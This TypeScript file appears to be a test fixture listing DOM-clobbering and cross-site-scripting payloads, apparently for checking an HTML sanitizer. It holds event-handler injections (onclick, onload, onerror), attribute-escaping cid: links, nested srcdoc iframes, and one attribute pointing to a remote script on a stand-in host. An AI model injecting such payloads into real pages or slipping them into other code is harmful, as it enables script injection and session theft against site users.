/** DOM clobbering: id and name attributes that shadow properties of forms, the document and the window. */
const elementProperties = (
  'attributes childNodes children firstChild firstElementChild lastChild parentNode nodeName nodeType nodeValue namespaceURI ' +
  'innerHTML outerHTML textContent ownerDocument removeChild removeAttribute setAttribute getAttribute hasAttribute ' +
  'hasChildNodes insertBefore appendChild cloneNode replaceWith remove querySelector querySelectorAll submit action method'
).split(' ');
const documentProperties = (
  'body head documentElement cookie domain forms images links scripts getElementById createElement createTextNode ' +
  'createTreeWalker createNodeIterator importNode adoptNode implementation currentScript activeElement location defaultView ' +
  'styleSheets title referrer readyState write addEventListener evaluate all'
).split(' ');
const windowProperties = (
  'window self top parent frames opener name location history navigator document localStorage sessionStorage fetch alert ' +
  'root visit app config __proto__ constructor prototype toString valueOf hasOwnProperty then React DOMPurify'
).split(' ');

export const clobbering: readonly string[] = [
  ...elementProperties.map(
    (name) => `<form onclick=alert(1)><input name=${name}><input id=${name}>a</form><p onclick=alert(1)>b</p>`,
  ),
  ...documentProperties.map(
    (name) => `<img name=${name} src="/uploads/a.jpg"><img id=${name}><form name=${name}></form>a`,
  ),
  ...windowProperties.map(
    (name) => `<a id=${name} name=${name} href="/x">a</a><a id=${name} name=href href="cid:alert(1)">b</a>`,
  ),
  '<form id=attributes><input name=nodeName><img name=childNodes src="/uploads/a.jpg"></form>',
  '<form id=x><output name=y>alert(1)</output></form><form id=x name=y></form>',
  '<iframe name=x srcdoc="<iframe name=y srcdoc=&quot;<a id=z href=cid:a></a>&quot;></iframe>"></iframe>',
  '<a id=defaultAvatar></a><a id=defaultAvatar name=avatar href="cid:&quot;onerror=alert(1)//">a</a>',
  '<image name=body><image name=adoptNode>a<image name=firstElementChild><svg onload=alert(1)>',
  '<image name=activeElement><svg onload=alert(1)>',
  '<div id=root>a</div><div id=view>b</div><script type="application/json" id=visit>{}</script>',
  '<main id=view><dialog open id=dialog>a</dialog></main>',
  '<figure data-aside><img src="/uploads/a.jpg" onerror=alert(1)></figure>',
  '<div data-from-editor><p x-style="color:red" data-picked onclick=alert(1)>a</p><p data-aside>b</p></div>',
  '<p data-page data-enhanced data-program="//evil.example/x.js">a</p>',
];
